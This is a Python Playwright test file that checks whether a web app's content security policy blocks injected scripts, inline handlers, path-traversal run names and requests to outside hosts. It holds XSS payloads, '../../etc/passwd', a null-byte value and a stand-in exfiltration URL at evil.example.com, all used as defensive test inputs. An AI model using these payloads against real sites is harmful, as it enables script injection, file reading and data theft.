"""The browser enforces the content policy: strangers' code does not work in it.

The lab does: the browser logs what it refuses as an error, by which every test with ``page`` or
``open_context`` would fail.
"""

import re

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, expect

from app.session.owner import COOKIE
from tests.support.browser.context import LOGGED, Contexts, Heard
from tests.support.browser.lesson import Lesson
from tests.support.browser.server import Server

pytestmark = pytest.mark.timeout(300)

HOSTILE = '<img src=x onerror="window.ran=1"> **굵게** [a](javascript:window.ran=1) $x$ :red[빨강]'


def violations(page: Page) -> list[str]:
    """Return a list that fills with what the browser refuses, and logs as an error, from now on."""
    refused: list[str] = []

    def listen(message: ConsoleMessage) -> None:
        if message.type in LOGGED and re.search("Content.Security.Policy", message.text):
            refused.append(message.text[:300])

    page.on("console", listen)
    return refused


def test_a_run_in_the_address_that_is_a_path_shows_no_run(page: Page, server: Server) -> None:
    lesson = Lesson(page, server.url)
    for run in ("../../etc/passwd", HOSTILE, "%00"):
        lesson.open("train", task="boston", run=run)
        expect(page.locator('.fl-chart[data-state="empty"]')).to_be_visible()
        assert page.evaluate("window.ran") is None


@pytest.mark.browser_errors(
    "Content.Security.Policy|ERR_BLOCKED_BY_CSP|violates", "the browser says what it refuses"
)
def test_code_that_got_into_the_page_would_not_run(page: Page, server: Server) -> None:
    refused = violations(page)
    Lesson(page, server.url).open("")
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.ran = 1";
        const button = document.createElement("button");
        button.setAttribute("onclick", "window.ran = 1");
        const picture = document.createElement("img");
        picture.src = "https://evil.example.com/stolen";
        document.body.append(script, button, picture);
        button.click();
    }""")
    sent = page.evaluate("fetch('https://evil.example.com/').then(() => true, () => false)")
    assert sent is False and page.evaluate("window.ran") is None
    assert len(refused) >= 4


def test_who_borrows_a_context_is_another_owner_than_the_one_before(
    contexts: Contexts, server: Server
) -> None:
    """Who had it before has left nothing stored, nor what names the owner to all tabs."""
    owners = []
    for _ in range(2):
        with contexts.lent() as open_context:
            context = open_context(color_scheme="dark")
            Lesson(context.new_page(), server.url).open("runs")
            owners += [each["value"] for each in context.cookies() if each["name"] == COOKIE]
    assert len(set(owners)) == 2


def test_a_page_that_asked_another_machine_would_be_noticed(browser: Browser) -> None:
    """Every test with ``page`` or ``open_context`` fails by what ``Heard`` has heard."""
    context = browser.new_context()
    heard = Heard(context)
    page = context.new_page()
    page.goto("data:text/html,<p>")
    page.evaluate("fetch('http://lab.invalid/script.js').catch(() => null)")
    page.evaluate("() => { new WebSocket('ws://lab.invalid/socket'); }")
    page.wait_for_timeout(300)
    context.close()
    assert sorted(heard.strays()) == ["http://lab.invalid/script.js", "ws://lab.invalid/socket"]
